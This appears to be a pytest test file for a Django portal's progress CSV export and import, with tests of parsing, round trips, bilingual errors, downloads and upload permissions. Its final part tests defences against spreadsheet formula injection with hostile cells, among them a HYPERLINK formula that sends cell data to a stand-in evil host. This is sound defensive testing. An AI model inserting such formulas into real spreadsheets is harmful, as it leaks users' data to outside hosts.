"""Progress as CSV: export_progress and import_progress (docs/progress-csv.md).

The data is made up by the tests themselves (agencies called test-…), on the plan's real
tree: nothing here is progress of the real plan.

Over 400 lines, one feature: the CSV contract, both ways, with every hostile file.
"""

import csv
import io
import json
import re
from datetime import date
from decimal import Decimal
from io import StringIO

import pytest
from django.conf import settings
from django.contrib.auth.models import User
from django.core.cache import cache
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from reversion.models import Revision, Version

from plan.models import Plan, PlanNode
from portal.serving.caching import clear_process_caches
from progress import review
from progress.models import Agency, Indicator, ProgressUpdate, Responsibility
from progress.roles import AGENCY_EDITOR, REVIEWER
from progress.spreadsheets.importer import import_csv
from progress.spreadsheets.safe import cell, write_csv
from progress.spreadsheets.values import parse_date, parse_percent
from staff.models import AuditEvent

from .factories import (
    ACTION,
    ROOT,
    SLUG,
    STRATEGY,
    UPDATE_HEADER,
    doubled,
    failing_import,
    node,
    run_import,
    snapshot,
    staff,
)

OTHER = "net-zero"


def export(kind, slug=SLUG):
    out = StringIO()
    call_command("export_progress", slug, kind=kind, stdout=out)
    return out.getvalue()


def rows_of(text):
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline="")))


@pytest.mark.parametrize(
    "text",
    ["2025-03-31", "114/03/31", "114/3/31", "2025/3/31", "2025/03/31 00:00", " 2025-3-31 "],
)
def test_dates(text):
    assert parse_date(text) == date(2025, 3, 31)


@pytest.mark.parametrize("text", ["31/03/2025", "2025-02-30", "明年", "114"])
def test_unreadable_dates(text):
    with pytest.raises(ValueError):
        parse_date(text)


@pytest.mark.parametrize(
    "text,value",
    [
        ("55", Decimal(55)),
        ("55%", Decimal(55)),
        ("55.5", Decimal("55.5")),
        (" 55 % ", 55),
        ("", None),
    ],
)
def test_percentages(text, value):
    assert parse_percent(text) == value


def test_export_is_excel_csv_of_published_data_only(progress):
    text = export("updates")
    assert text.startswith("\ufeff")
    assert text.endswith("\r\n") and "\r\n" in text.split("\ufeff")[1]
    rows = rows_of(text)
    # The English reason and remedy come after the Chinese ones (added to the contract).
    assert list(rows[0]) == [*UPDATE_HEADER.split(","), "update_id", "reason_en", "remedy_en"]
    # In the plan's order (social housing comes before the MRT), newest first within an item.
    assert [(r["ref"], r["date"], r["status"], r["percent"]) for r in rows] == [
        (ACTION, "2024-12-31", "behind", "20"),
        (STRATEGY, "2024-06-30", "in_progress", "40.5"),
    ]
    assert "草稿" not in text  # drafts never
    assert rows[1]["summary_zh_hant"] == "測試：進行中，含逗號, 與\n換行"
    assert rows[1]["agency"] == "test-transport"
    assert rows[1]["update_id"] == str(ProgressUpdate.objects.get(percent=Decimal("40.5")).pk)


def test_export_indicators_has_a_column_per_year_of_the_term(progress):
    rows = rows_of(export("indicators"))
    (row,) = rows  # the draft is not exported
    assert list(row)[:13] == [
        "plan",
        "ref",
        "indicator",
        "name_zh_hant",
        "name_en",
        "measure_zh_hant",
        "measure_en",
        "unit_zh_hant",
        "unit_en",
        "direction",
        "baseline_year",
        "baseline",
        "weight",
    ]
    years = [f"{name}_{year}" for year in range(112, 116) for name in ("target", "actual")]
    assert list(row)[13:21] == years
    assert list(row)[21:] == [
        "source",
        "target_change_reason",
        "target_change_reason_en",
        "source_112",
        "source_113",
        "source_114",
        "source_115",
    ]
    assert row["target_112"] == "1100" and row["actual_112"] == "1090"
    assert row["target_113"] == "1200" and row["actual_113"] == ""
    assert row["baseline"] == "1000.5" and row["baseline_year"] == "111" and row["weight"] == "1"
    assert row["source_112"] == "https://example.org/112"


def test_export_agencies_and_responsibilities(progress):
    agencies = rows_of(export("agencies"))
    assert agencies == [
        {
            "code": "test-housing",
            "name_zh_hant": "測試住宅機關",
            "name_en": "Test Housing Agency",
            "url": "https://housing.example.org/",
        },
        {
            "code": "test-transport",
            "name_zh_hant": "測試交通機關",
            "name_en": "Test Transport Agency",
            "url": "",
        },
    ]
    responsibilities = rows_of(export("responsibilities"))
    assert [list(r.values()) for r in responsibilities] == [
        [SLUG, ACTION, "test-housing", "lead"],
        [SLUG, STRATEGY, "test-transport", "lead"],
        [SLUG, STRATEGY, "test-housing", "support"],
    ]


def test_template_lists_every_strategy_and_action_item(plan):
    rows = rows_of(export("responsibilities"))
    expected = list(
        PlanNode.objects.for_plan(plan)
        .published()
        .filter(kind__in=["strategy", "action"])
        .values_list("ref", flat=True)
    )
    assert len(expected) == 28 + 13
    assert [r["ref"] for r in rows] == expected
    assert list(rows[0]) == ["plan", "ref", "agency", "role", "title_zh_hant"]
    assert all(r["agency"] == "" and r["role"] == "" and r["plan"] == SLUG for r in rows)
    assert rows[expected.index(STRATEGY)]["title_zh_hant"] == "健全大眾運輸捷運路網"


def test_export_of_an_unknown_plan_fails(db):
    with pytest.raises(CommandError):
        export("updates", slug="nowhere")


@pytest.mark.parametrize("kind", ["agencies", "responsibilities", "indicators", "updates"])
def test_round_trip_changes_nothing(progress, tmp_path, kind):
    text = export(kind)
    before = snapshot()
    out, _ = run_import(tmp_path, text.lstrip("\ufeff"))
    assert "new 0, changed 0" in out
    assert snapshot() == before
    assert export(kind) == text


def test_filled_in_template_imports_and_empty_rows_are_skipped(plan, agencies, tmp_path):
    rows = rows_of(export("responsibilities"))
    rows[0].update(agency="test-transport", role="lead")
    rows[1].update(agency="test-housing", role="support")
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    printed, _ = run_import(tmp_path, out.getvalue())
    assert "new 2" in printed and f"skipped {len(rows) - 2}" in printed
    assert Responsibility.objects.count() == 2
    again, _ = run_import(tmp_path, out.getvalue())
    assert "new 0, changed 0, unchanged 2" in again


def test_import_twice_changes_nothing(plan, agencies, tmp_path):
    content = (
        f"{UPDATE_HEADER}\r\n"
        f"{SLUG},{STRATEGY},2025-03-31,in_progress,55%,測試摘要,Test summary,https://example.org/a,"
        "test-transport,,\r\n"
        f"{SLUG},{ACTION},114/03/31,completed,100,測試完成,,https://example.org/b,,,\r\n"
    )
    out, _ = run_import(tmp_path, content)
    assert "new 2, changed 0, unchanged 0" in out
    assert ProgressUpdate.objects.filter(state="draft").count() == 2  # drafts, for review
    before = snapshot()
    out, _ = run_import(tmp_path, content)
    assert "new 0, changed 0, unchanged 2" in out
    assert snapshot() == before


def test_big5_file_from_excel(plan, agencies, tmp_path):
    content = (
        f"{UPDATE_HEADER}\r\n"
        f"{SLUG},{STRATEGY},114/3/31,in_progress,55.5%,捷運路網測試進度,,府授研字第1號,"
        "test-transport,,\r\n"
    )
    out, _ = run_import(tmp_path, content, encoding="cp950")
    assert "new 1" in out
    update = ProgressUpdate.objects.get()
    assert update.summary_zh_hant == "捷運路網測試進度"
    assert update.date == date(2025, 3, 31)
    assert update.percent == Decimal("55.5")
    assert update.source == "府授研字第1號"
    assert update.state == "draft"


@pytest.mark.parametrize(
    "written,expected",
    [
        ("2025-03-31", date(2025, 3, 31)),
        ("114/03/31", date(2025, 3, 31)),
        ("2025/3/1", date(2025, 3, 1)),
    ],
)
@pytest.mark.parametrize("percent,value", [("55", "55"), ("55%", "55"), ("55.5", "55.5")])
def test_dates_and_percentages_as_spreadsheets_write_them(
    plan, agencies, tmp_path, written, expected, percent, value
):
    content = f"{UPDATE_HEADER}\n{SLUG},{STRATEGY},{written},in_progress,{percent},測試,,來源,,,\n"
    run_import(tmp_path, content, encoding="utf-8")  # no BOM
    update = ProgressUpdate.objects.get()
    assert update.date == expected and update.percent == Decimal(value)


def test_dry_run_reports_and_writes_nothing(progress, tmp_path):
    rows = rows_of(export("updates"))
    rows[0]["percent"] = "45"
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    writer.writerow({**rows[0], "update_id": "", "date": "2025-06-30"})
    before = snapshot()
    printed, _ = run_import(tmp_path, out.getvalue(), "--dry-run")
    assert "dry run, nothing written" in printed
    assert "new 1, changed 1, unchanged 1" in printed
    assert snapshot() == before


def changed_update_file(percent="45", status=None, update=None):
    rows = rows_of(export("updates"))
    row = next(r for r in rows if r["percent"] == "40.5")
    row["percent"] = percent
    if status:
        row["status"] = status
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(row))
    writer.writeheader()
    writer.writerow(row)
    return out.getvalue(), int(row["update_id"])


def test_a_changed_published_update_becomes_a_draft_revision(progress, tmp_path):
    content, pk = changed_update_file()
    published = ProgressUpdate.objects.get(pk=pk)
    out, _ = run_import(tmp_path, content)
    assert "changed 1" in out
    published.refresh_from_db()
    assert published.state == "published" and published.percent == Decimal("40.5")
    draft = ProgressUpdate.objects.get(supersedes=published)
    assert draft.state == "draft" and draft.percent == Decimal("45")
    assert [r["percent"] for r in rows_of(export("updates"))] == ["20", "40.5"]
    # The same file again: the pending draft already says it.
    before = snapshot()
    out, _ = run_import(tmp_path, content)
    assert "changed 0, unchanged 1" in out
    assert snapshot() == before
    # Changed again: the draft is edited, no second draft.
    content, _ = changed_update_file("47")
    run_import(tmp_path, content)
    assert ProgressUpdate.objects.filter(supersedes=published).count() == 1
    assert ProgressUpdate.objects.get(supersedes=published).percent == Decimal(47)


def test_publish_replaces_the_published_update(progress, tmp_path):
    content, pk = changed_update_file()
    out, _ = run_import(tmp_path, content, "--publish")
    assert "changed 1" in out and "(published)" in out
    old = ProgressUpdate.objects.get(pk=pk)
    assert old.state == "superseded"
    new = ProgressUpdate.objects.get(supersedes=old)
    assert new.state == "published" and new.published_at is not None
    assert new.percent == Decimal(45)
    exported = rows_of(export("updates"))
    assert str(new.pk) in [r["update_id"] for r in exported]
    assert str(pk) not in [r["update_id"] for r in exported]
    # The old id, once superseded, is refused with the new one named.
    message, err = failing_import(tmp_path, content)
    assert f"({new.pk})" in err


def test_publish_turns_the_pending_draft_into_the_published_revision(progress, tmp_path):
    content, pk = changed_update_file()
    run_import(tmp_path, content)
    run_import(tmp_path, content, "--publish")
    assert ProgressUpdate.objects.get(pk=pk).state == "superseded"
    (new,) = ProgressUpdate.objects.filter(supersedes_id=pk)
    assert new.state == "published"


def test_import_is_recorded_as_a_revision(progress, tmp_path):

    content, _ = changed_update_file()
    run_import(tmp_path, content)
    version = Version.objects.get_for_model(ProgressUpdate).order_by("-pk").first()
    assert "Imported updates from CSV" in version.revision.comment


def test_weakened_target_needs_a_reason(progress, tmp_path):
    rows = rows_of(export("indicators"))
    rows[0]["target_112"] = "900"  # increase: lower is weaker
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    before = snapshot()
    _, err = failing_import(tmp_path, out.getvalue())
    assert "第 2 列「target_change_reason」欄" in err
    assert "Row 2, column “target_change_reason”" in err and "112" in err
    assert snapshot() == before
    out2 = out.getvalue().replace(
        ",https://example.org/ridership,", ",https://example.org/ridership,測試：預算刪減"
    )
    assert out2 != out.getvalue()
    printed, _ = run_import(tmp_path, out2)
    assert "changed 1" in printed
    published = Indicator.objects.get(key="test-ridership", state="published")
    draft = Indicator.objects.get(key="test-ridership", state="draft")
    assert draft.supersedes == published and draft.values["112"]["target"] == "900"
    assert published.values["112"]["target"] == "1100"


def test_new_indicator_imported(plan, agencies, tmp_path):
    header = export("indicators").lstrip("\ufeff").split("\r\n")[0]
    # No year has its own source.
    assert header.endswith("source,target_change_reason,target_change_reason_en")
    line = (
        f"{SLUG},{ACTION},test-units,測試戶數,Test units,,,戶,units,increase,111,0,2,"
        "100,50,200,,300,,400,,https://example.org/units,"
    )
    out, _ = run_import(tmp_path, f"{header}\r\n{line}\r\n")
    assert "new 1" in out
    indicator = Indicator.objects.get(key="test-units")
    assert indicator.state == "draft"
    assert indicator.values == {
        "112": {"target": "100", "actual": "50"},
        "113": {"target": "200"},
        "114": {"target": "300"},
        "115": {"target": "400"},
    }
    assert indicator.weight == 2 and indicator.baseline_year == 111


def test_agencies_import(db, tmp_path):
    content = (
        "code,name_zh_hant,name_en,url\r\n"
        "test-a,測試甲機關,Test Agency A,https://a.example.org/\r\n"
        "test-b,測試乙機關,,\r\n"
    )
    out, _ = run_import(tmp_path, content)
    assert "new 2" in out
    changed = content.replace("Test Agency A", "Test Agency Alpha")
    out, _ = run_import(tmp_path, changed)
    assert "new 0, changed 1, unchanged 1" in out
    assert Agency.objects.get(code="test-a").name_en == "Test Agency Alpha"


def test_every_error_with_row_and_column_in_both_languages(progress, tmp_path):
    content = (
        f"{UPDATE_HEADER}\r\n"
        f"{SLUG},{STRATEGY},2025-03-31,in_progress,55,測試,,https://example.org/ok,,,\r\n"
        f"{SLUG},{STRATEGY},明年,in_progress,55,測試,,https://example.org/a,,,\r\n"
        f"{SLUG},no-such-item,2025-03-31,in_progress,55,測試,,https://example.org/b,,,\r\n"
        f"{SLUG},livable,2025-03-31,in_progress,55,測試,,https://example.org/c,,,\r\n"
        f"{SLUG},{STRATEGY},2025-03-31,behind,55,測試,,,,,\r\n"
        f"{SLUG},{STRATEGY},2025-03-31,late,abc,測試,,https://example.org/d,nobody,,\r\n"
        f"{SLUG},{STRATEGY},2025-03-31,in_progress,150,測試,,https://example.org/e,,,\r\n"
    )
    before = snapshot()
    message, err = failing_import(tmp_path, content)
    assert snapshot() == before  # nothing written
    assert "nothing was written" in message and "未寫入任何資料" in message
    expected = [
        ("3", "date", "日期", "unreadable date"),
        ("4", "ref", "no-such-item", "the plan has no item"),
        ("5", "ref", "不是推動策略或具體作法", "is not a strategy or an action item"),
        ("6", "source", "來源", "needs its source"),
        ("6", "reason", "原因", "needs the reason"),
        ("6", "remedy", "對策", "needs the remedy"),
        ("7", "status", "late", "not a known code"),
        ("7", "percent", "abc", "is not a number"),
        ("7", "agency", "nobody", "no agency"),
        ("8", "percent", "100", "100"),
    ]
    lines = err.strip().splitlines()
    assert len(lines) == len(expected), err
    for (row, column, chinese, english), line in zip(expected, lines, strict=True):
        zh, en = line.split(" / ", 1)
        assert zh.startswith(f"第 {row} 列「{column}」欄："), line
        assert en.startswith(f"Row {row}, column “{column}”: "), line
        assert chinese in zh and english in en, line


def test_bad_header_and_years(progress, tmp_path):
    header = export("indicators").lstrip("\ufeff").split("\r\n")[0]
    wrong = header.replace("target_115", "target_116").replace(",name_en,", ",name_english,")
    _, err = failing_import(tmp_path, wrong + "\r\n" + f"{SLUG},{STRATEGY},x" + "," * 26 + "\r\n")
    assert "第 1 列「target_116」欄" in err and "outside the plan's term" in err
    assert "第 1 列「name_english」欄" in err and "unknown column" in err
    assert "Row 1, column “target_115”: this column is missing" in err
    assert "Row 1, column “name_en”: this column is missing" in err


def test_unknown_kind_plan_and_encoding(db, tmp_path):
    _, err = failing_import(tmp_path, "foo,bar\r\n1,2\r\n")
    assert "第 1 列" in err and "Row 1" in err
    _, err = failing_import(
        tmp_path, f"{UPDATE_HEADER}\r\nnowhere,{STRATEGY},2025-01-01,,,,,,,,\r\n"
    )
    assert "Row 2, column “plan”: no plan “nowhere”" in err
    path = tmp_path / "binary.csv"
    path.write_bytes(b"\xff\xfe\x00\x81\x00")
    with pytest.raises(CommandError):
        call_command("import_progress", str(path), stdout=StringIO(), stderr=StringIO())


def test_one_plan_per_file(plan, plan_file_data, agencies, tmp_path):
    from plan.exchange import create_plan

    create_plan({**plan_file_data, "slug": "other-plan"})
    content = (
        f"{UPDATE_HEADER}\r\n"
        f"{SLUG},{STRATEGY},2025-03-31,in_progress,55,測試,,來源,,,\r\n"
        f"other-plan,{STRATEGY},2025-03-31,in_progress,55,測試,,來源,,,\r\n"
    )
    _, err = failing_import(tmp_path, content)
    assert "Row 3, column “plan”: one plan per file" in err
    assert ProgressUpdate.objects.count() == 0


def test_a_deleted_item_is_refused(plan, agencies, tmp_path):
    PlanNode.objects.filter(plan=plan, ref=OTHER).update(deleted=True)
    _, err = failing_import(
        tmp_path, f"{UPDATE_HEADER}\r\n{SLUG},{OTHER},2025-03-31,in_progress,5,測試,,來源,,,\r\n"
    )
    assert f"Row 2, column “ref”: the plan has no item “{OTHER}”" in err


def test_duplicate_rows_and_unknown_update_ids(progress, tmp_path):
    line = f"{SLUG},{STRATEGY},2025-03-31,in_progress,5,測試,,來源,,,"
    header = UPDATE_HEADER + ",update_id"
    _, err = failing_import(tmp_path, f"{header}\r\n{line},\r\n{line},\r\n{line},99999\r\n")
    assert "Row 3, column “ref”: the same update as row 2" in err
    assert "Row 4, column “update_id”: the plan has no update 99999" in err


def test_all_errors_through_the_function(progress):
    result = import_csv(b"code,name_zh_hant,name_en,url\r\n,x,,\r\nbad code!,,,not-a-url\r\n")
    assert not result.applied
    assert any("Row 2, column “code”: required" in e for e in result.errors)
    assert any(e.startswith("第 3 列「code」欄") for e in result.errors)
    assert any(e.startswith("第 3 列「name_zh_hant」欄") for e in result.errors)
    assert any(e.startswith("第 3 列「url」欄") for e in result.errors)


# ------------------------------------------------------------------------------------------
# The progress downloads (/data/<slug>/<kind>.csv), the JSON export's progress keys and the
# admin's CSV upload (preview, then confirm). Test data only (agencies called test-…).


KINDS = ("agencies", "responsibilities", "indicators", "updates")


ORIGIN = "https://civic-app.example.org"


def url(kind, slug=SLUG):
    return f"/data/{slug}/{kind}.csv"


def read(response):
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def cold():
    cache.clear()
    clear_process_caches()


def warm_connection():
    """SQLite answers whether it has JSON functions once per connection (three queries the
    first time anything uses JSON_OBJECT, as the progress bundle does): not a page's cost."""
    connection.features.supports_json_field  # noqa: B018


@pytest.mark.parametrize("kind", KINDS)
def test_download(client, progress, kind):
    response = client.get(url(kind), headers={"Origin": ORIGIN})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="{SLUG}-{kind}.csv"'
    assert response["Access-Control-Allow-Origin"] == "*"
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert response.content.endswith(b"\r\n")
    assert "草稿" not in response.content.decode()  # drafts never
    # The same bytes as the command prints.
    assert response.content.decode() == export(kind)


@pytest.mark.parametrize("kind", KINDS)
def test_download_etag_and_304(client, progress, kind):
    response = client.get(url(kind))
    etag = response["ETag"]
    assert etag.startswith('"')
    again = client.get(url(kind), headers={"If-None-Match": etag})
    assert again.status_code == 304 and not again.content
    # A published change makes another file, and another ETag.
    ProgressUpdate.objects.filter(state="published").update(source="https://example.org/new")
    Responsibility.objects.filter(role="support").update(role="lead")
    PlanNode.objects.filter(ref=STRATEGY).update(title_zh_hant="改過的標題")
    from progress.models import Agency, Indicator

    Agency.objects.update(url="https://changed.example.org/")
    Indicator.objects.update(source="https://example.org/changed")
    changed = client.get(url(kind), headers={"If-None-Match": etag})
    assert changed.status_code == 200 and changed["ETag"] != etag


def test_drafts_never_appear(client, progress):
    ProgressUpdate.objects.update(state="draft")
    rows = read(client.get(url("updates")))
    assert rows == []


def test_items_hidden_from_citizens_are_not_in_the_downloads(client, progress):
    PlanNode.objects.filter(ref=STRATEGY).update(published=False)
    assert STRATEGY not in client.get(url("updates")).content.decode()
    assert STRATEGY not in client.get(url("responsibilities")).content.decode()
    assert STRATEGY not in client.get(url("indicators")).content.decode()
    assert "test-transport" not in client.get(url("agencies")).content.decode()


@pytest.mark.parametrize("kind", KINDS)
def test_unknown_or_unpublished_plan_is_404(client, progress, kind):

    assert client.get(url(kind, "nowhere")).status_code == 404
    Plan.objects.update(published=False)
    assert client.get(url(kind)).status_code == 404


def test_downloads_are_read_only(client, progress):
    assert client.post(url("updates")).status_code == 405


def test_template_download_on_a_plan_without_progress(client, plan):
    rows = read(client.get(url("responsibilities")))
    assert len(rows) == 28 + 13 and rows[0]["title_zh_hant"]
    assert read(client.get(url("updates"))) == []
    assert client.get(url("agencies")).content == b"\xef\xbb\xbfcode,name_zh_hant,name_en,url\r\n"


@pytest.mark.parametrize("kind", KINDS)
def test_cold_query_budget_is_constant_in_plan_size(client, plan_file_data, agencies, kind):
    from plan.exchange import create_plan

    counts = []
    for slug, data in (("small-plan", plan_file_data), ("big-plan", doubled(plan_file_data))):
        created = create_plan({**data, "slug": slug})
        transport, housing = agencies
        for item in PlanNode.objects.filter(plan=created, kind__in=["strategy", "action"]):
            Responsibility.objects.create(node=item, agency=transport, role="lead")
            ProgressUpdate.objects.create(
                node=item,
                date="2025-01-31",
                status="in_progress",
                percent=10,
                summary_zh_hant="測試",
                source="https://example.org/",
                state="published",
            )
        warm_connection()
        cold()
        with CaptureQueriesContext(connection) as queries:
            response = client.get(url(kind, slug))
        assert response.status_code == 200
        counts.append(len(queries))
    assert counts[0] == counts[1] <= 6, counts
    assert counts[0] <= 4  # version, plans, tree, the facts


def walk(node):
    yield node
    for child in node["children"]:
        yield from walk(child)


def test_json_export_gains_progress_keys(client, progress, django_assert_max_num_queries):
    warm_connection()
    cold()
    with django_assert_max_num_queries(4):
        response = client.get(f"/data/{SLUG}.json")
    data = json.loads(response.content)
    assert data["agencies"] == [
        {
            "code": "test-housing",
            "name": {"zh-hant": "測試住宅機關", "en": "Test Housing Agency"},
            "url": "https://housing.example.org/",
        },
        {
            "code": "test-transport",
            "name": {"zh-hant": "測試交通機關", "en": "Test Transport Agency"},
            "url": "",
        },
    ]
    nodes = {node["ref"]: node for node in walk(data["tree"])}
    mrt = nodes[STRATEGY]
    assert mrt["agencies"] == {"lead": ["test-transport"], "support": ["test-housing"]}
    assert [u["date"] for u in mrt["updates"]] == ["2024-06-30"]  # the draft is not there
    (update,) = mrt["updates"]
    assert update == {
        "date": "2024-06-30",
        "status": "in_progress",
        "percent": 40.5,
        "summary": {"zh-hant": "測試：進行中，含逗號, 與\n換行", "en": "Test: under way"},
        "source": "府授研字第 1130000001 號",
        "agency": "test-transport",
        "reason": "",
        "remedy": "",
        "reason_en": "",
        "remedy_en": "",
    }
    assert mrt["progress"]["status"] == "in_progress"
    assert mrt["progress"]["percent"] == 40.5
    assert mrt["progress"]["date"] == "2024-06-30"
    assert mrt["progress"]["light"] in ("green", "yellow", "red")
    assert isinstance(mrt["progress"]["expected"], (int, float))
    (indicator,) = mrt["indicators"]
    assert indicator["key"] == "test-ridership"
    assert indicator["values"]["112"] == {
        "target": 1100,
        "actual": 1090,
        "source": "https://example.org/112",
    }
    assert indicator["values"]["113"] == {
        "target": 1200,
        "actual": None,
        "source": "https://example.org/ridership",
    }
    assert set(indicator["values"]) == {"112", "113", "114", "115"}
    assert indicator["baseline"] == 1000.5
    assert nodes[ACTION]["indicators"] == []  # only a draft there
    assert nodes[ACTION]["progress"]["status"] == "behind"
    # Nothing reported: null progress, empty lists.
    quiet = nodes["net-zero"]
    assert quiet["progress"] is None
    assert quiet["updates"] == [] and quiet["indicators"] == []
    assert quiet["agencies"] == {"lead": [], "support": []}
    # The roll-up reaches the goal.
    assert data["tree"]["progress"] is not None


def test_json_export_keeps_every_existing_key(client, plan):
    data = json.loads(client.get(f"/data/{SLUG}.json").content)
    new_keys = {"agencies", "indicators", "progress", "updates"}
    for item in walk(data["tree"]):
        assert new_keys <= set(item)
        assert item["progress"] is None
    assert data["agencies"] == []


def test_json_export_without_the_new_keys_is_the_plan_as_before(plan):
    """Taking the new keys away leaves exactly the plan data the format had before."""
    from plan.exchange import plan_data
    from plan.tree import PlanTree
    from portal.pages.opendata.export import export_data
    from portal.published import link

    def strip(node):
        node = {
            k: v
            for k, v in node.items()
            if k not in ("agencies", "indicators", "progress", "updates", "withdrawn", "coverage")
        }
        node["children"] = [strip(child) for child in node["children"]]
        return node

    data = export_data(plan)
    del data["agencies"]
    data["tree"] = strip(data["tree"])
    assert data == plan_data(plan, link(PlanTree.load(plan), "zh-hant"))


def test_load_plan_and_the_new_keys(plan):
    """load_plan compares a file with the database through plan.exchange.comparable(): an
    export with the progress keys is the same plan (the progress layer is not loaded)."""
    from plan.exchange import comparable, differences, plan_data
    from plan.tree import PlanTree
    from portal.pages.opendata.export import export_data

    current = plan_data(plan, PlanTree.load(plan, include_unpublished=True), with_urls=False)
    changes = differences(comparable(current), comparable(export_data(plan)))
    assert changes == []


IMPORT_URL = "/admin/progress/import/"


def upload_file(content, name="updates.csv"):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, content.encode("utf-8-sig"), content_type="text/csv")


def new_rows(*refs):
    lines = [UPDATE_HEADER]
    lines += [
        f"{SLUG},{ref},2025-03-31,in_progress,55%,測試上傳,,https://example.org/u,,,"
        for ref in refs
    ]
    return "\r\n".join(lines) + "\r\n"


def test_upload_preview_then_confirm(client, progress):
    editor = staff("editor", AGENCY_EDITOR)
    transport, _ = progress
    transport.editors.add(editor)
    client.force_login(editor)
    page = client.get(IMPORT_URL)
    assert page.status_code == 200
    html = page.content.decode()
    # CSP-clean: no inline script or style.
    assert not re.search(r"<script(?![^>]*\bsrc=)", html)
    assert "<style" not in html and not re.search(r"\sstyle=", html)
    before = ProgressUpdate.objects.count()
    preview = client.post(IMPORT_URL, {"file": upload_file(new_rows(STRATEGY))})
    assert preview.status_code == 200
    assert ProgressUpdate.objects.count() == before  # a preview writes nothing
    html = preview.content.decode()
    assert 'name="confirm"' in html and "csrfmiddlewaretoken" in html
    assert preview.context["result"].counts == {"new": 1, "changed": 0, "unchanged": 0}
    token = preview.context["token"]
    done = client.post(IMPORT_URL, {"confirm": "1", "token": token})
    assert done.status_code == 302
    assert ProgressUpdate.objects.count() == before + 1
    update = ProgressUpdate.objects.latest("pk")
    assert update.state == "draft" and update.submitted_by == editor
    # The stored file is used once.
    assert client.post(IMPORT_URL, {"confirm": "1", "token": token}).status_code == 400


def test_agency_editor_refused_for_another_agencys_item(client, progress):
    editor = staff("editor", AGENCY_EDITOR)
    transport, _ = progress
    transport.editors.add(editor)  # leads mrt-network, nothing to do with social housing
    client.force_login(editor)
    before = ProgressUpdate.objects.count()
    preview = client.post(IMPORT_URL, {"file": upload_file(new_rows(STRATEGY, ACTION))})
    html = preview.content.decode()
    assert preview.context["result"].problems
    assert f"Row 3, column “ref”: none of your agencies leads or supports “{ACTION}”" in html
    assert 'name="confirm"' not in html
    assert ProgressUpdate.objects.count() == before
    # Nor may they publish at once, or import responsibilities.
    preview = client.post(IMPORT_URL, {"file": upload_file(new_rows(STRATEGY)), "publish": "on"})
    assert "only reviewers may publish at once" in preview.content.decode()
    preview = client.post(
        IMPORT_URL,
        {"file": upload_file(f"plan,ref,agency,role\r\n{SLUG},{STRATEGY},test-transport,lead\r\n")},
    )
    assert "you may not import responsibilities files" in preview.content.decode()


def test_reviewer_publishes_at_once(client, progress):
    reviewer = staff("reviewer", REVIEWER)
    client.force_login(reviewer)
    preview = client.post(
        IMPORT_URL, {"file": upload_file(new_rows(STRATEGY, ACTION)), "publish": "on"}
    )
    assert preview.context["result"].counts["new"] == 2
    client.post(IMPORT_URL, {"confirm": "1", "token": preview.context["token"]})
    published = ProgressUpdate.objects.filter(summary_zh_hant="測試上傳")
    assert [u.state for u in published] == ["published", "published"]
    assert all(u.reviewed_by == reviewer for u in published)
    assert "測試上傳" in client.get(url("updates")).content.decode()


def test_upload_needs_permission(client, progress):
    nobody = User.objects.create_user("staff", password="a-long-test-password", is_staff=True)
    client.force_login(nobody)
    assert client.get(IMPORT_URL).status_code == 403
    client.logout()
    assert client.get(IMPORT_URL).status_code == 302  # to the admin's login


# ------------------------------------------------------------------------------------------
# Issue 19, the CSV findings: every CSV the portal writes is spreadsheet-safe and reads back
# unchanged, the importer reads numbers with the one grammar (progress.numbers), scales, and
# follows progress.rules; the upload limit is one setting, the same in nginx.


FORMULAS = ["=1+2", "-5 公里", "@SUM(1)", "+886", "\tx", "\rx", "'quoted"]


def csv_text(rows):
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue()


def update_file(**cells):
    """An updates file of one row (the columns' defaults changed by `cells`)."""
    row = {
        "plan": SLUG,
        "ref": STRATEGY,
        "date": "2025-03-31",
        "status": "in_progress",
        "percent": "50",
        "summary_zh_hant": "測試摘要",
        "summary_en": "",
        "source": "https://example.org/s",
        "agency": "",
        "reason": "",
        "remedy": "",
        **cells,
    }
    return csv_text([list(row), list(row.values())])


def indicator_file(**cells):
    """An indicators file of one new indicator (the plan's term: 112–115)."""
    header = export("indicators").lstrip("\ufeff").split("\r\n")[0].split(",")
    row = dict.fromkeys(header, "")
    row.update(
        plan=SLUG,
        ref=STRATEGY,
        indicator="test-grammar",
        name_zh_hant="測試指標",
        direction="increase",
        source="https://example.org/i",
    )
    row.update(cells)
    return csv_text([header, [row[name] for name in header]])


def test_formula_like_texts_get_one_apostrophe_numbers_and_dates_never():
    assert [cell(text) for text in FORMULAS] == ["'" + text for text in FORMULAS]
    assert cell("公里") == "公里" and cell("a=1") == "a=1" and cell("") == ""
    assert cell(Decimal(-5)) == "-5" and cell(-5) == "-5" and cell(Decimal("40.50")) == "40.5"
    assert cell(date(2025, 3, 31)) == "2025-03-31" and cell(None) == ""
    text = write_csv([["a", "b"], ["=1+2", Decimal("-5")]])
    assert text == "\ufeffa,b\r\n'=1+2,-5\r\n"


@pytest.fixture
def hostile(plan):
    """Published facts whose texts a spreadsheet would run, and negative numbers."""
    agency = Agency.objects.create(code="test-hostile", name_zh_hant="=1+2", name_en="@SUM(1)")
    Responsibility.objects.create(node=node(plan, STRATEGY), agency=agency, role="lead")
    published = {"state": "published", "published_at": timezone.now()}
    for n, (zh, en, source, reason, remedy) in enumerate(
        [
            ("=1+2", "@SUM(1)", "+886", "-5 公里", "\tx"),
            ("'quoted", "\rx", "-來源", "", ""),
            ('=HYPERLINK("http://evil.example/?"&A2,"Open")', "-", "@", "", ""),
        ]
    ):
        ProgressUpdate.objects.create(
